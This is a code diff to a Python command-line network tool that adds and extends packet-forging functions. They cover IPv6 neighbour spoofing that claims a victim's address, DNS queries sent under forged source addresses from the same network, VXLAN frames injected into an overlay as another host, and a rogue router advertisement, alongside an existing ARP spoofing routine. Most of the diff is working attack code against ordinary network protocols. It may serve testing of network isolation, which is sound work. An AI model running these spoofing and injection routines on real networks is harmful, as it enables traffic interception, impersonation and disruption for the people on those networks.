@@ -10,6 +10,8 @@ import sys
 import time
 
 import packets
+import registry
+import zombie
 
 TYPES = {"A": 1, "CNAME": 5, "NULL": 10, "MX": 15, "TXT": 16, "AAAA": 28}
 LETTERS = "abcdefghijklmnopqrstuvwxyz234567"
@@ -120,14 +122,14 @@ def mix(target, first, opened, tries, between):
         known, closed = known + int(between), closed + 1
 
 
-def inject(target, identifier, count, source, destination):
-    """Sends VXLAN with an inner sender of one's choice: what joins an overlay without being in it."""
+def inject(target, identifier, count, source, destination, pause=0.02):
+    """Sends VXLAN with an inner sender of one's choice: what joins an overlay without being in it, or speaks as another in it."""
     way = packets.Way(packets.host("02:66:00:00:00:01", source), packets.host("02:66:00:00:00:02", destination))
     client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     for number in range(int(count)):
-        inner = way.udp(5000, 53, packets.question(number, "example.com"))
+        inner = way.udp(5000 + number, 53, packets.question(number, "example.com"))
         client.sendto(struct.pack("!II", 8 << 24, int(identifier) << 8) + inner, (target, 4789))
-        time.sleep(0.02)
+        time.sleep(float(pause))
 
 
 def raw(frame, count, pause=0.02):
@@ -151,14 +153,33 @@ def claim(address, victim, victim_mac, count):
     raw(packets.arp(here, there.ip, there.mac), count, 0.5)
 
 
+def claim_six(address, victim, victim_mac, way, count):
+    """Tells a neighbour by IPv6 that an address is here: as an answer, as news to all, or by asking in its name. RFC 4861"""
+    here = packets.Host(own_mac(), packets.host("00", address).ip)
+    victim, everybody = packets.host(victim_mac, victim), packets.host("33:33:00:00:00:01", "ff02::1")
+    if way == "question":
+        raw(packets.neighbour(packets.Way(here, victim), 135, victim.ip, here.mac), count, 0.5)
+    elif way == "news":
+        raw(packets.neighbour(packets.Way(here, everybody), 136, here.ip, here.mac, 0x20000000), count, 0.5)
+    else:
+        raw(packets.neighbour(packets.Way(here, victim), 136, here.ip, here.mac, 0x60000000), count, 0.5)
+
+
+def forge_six(source, target, target_mac, count):
+    """Asks a name in the name of others of the same network."""
+    there = packets.host(target_mac, target)
+    network = packets.host("00", source).ip[:14]
+    for number in range(int(count)):
+        here = packets.Host(own_mac(), network + (0x4000 + number).to_bytes(2, "big"))
+        raw(packets.Way(here, there).udp(40_000 + number, 53, packets.question(number, "example.com")), 1)
+
+
 def advertise(count):
     """Offers to route for the segment, as a rogue router does."""
     here = packets.Host(own_mac(), packets.host("00", "fe80::66").ip)
     group = packets.host("33:33:00:00:00:01", "ff02::1")
     body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + b"\x01\x01" + here.mac
-    way = packets.Way(here, group)
-    value = packets.checksum(body, way.pseudo + packets.ICMP6 + len(body))
-    raw(way.packet(packets.ICMP6, body[:2] + struct.pack("!H", value) + body[4:], ttl=255), count, 0.2)
+    raw(packets.Way(here, group).message_six(body), count, 0.2)
 
 
 def lease(count):
@@ -172,7 +193,9 @@ def lease(count):
 
 WHAT = {
     "serve": lambda *ports: serve(ports), "answer-names": answer_names, "ask": ask, "answer-pings": answer_pings,
-    "ping": ping, "mix": mix, "inject": inject, "claim": claim, "advertise": advertise, "lease": lease,
+    "ping": ping, "mix": mix, "inject": inject, "claim": claim, "claim-six": claim_six, "forge-six": forge_six,
+    "advertise": advertise, "lease": lease, "keep-images": registry.keep, "pull": registry.pull, "be-idle": zombie.be_idle,
+    "answer-text": registry.answer_text, "say": registry.say,
 }  # fmt: skip
 
 if __name__ == "__main__":
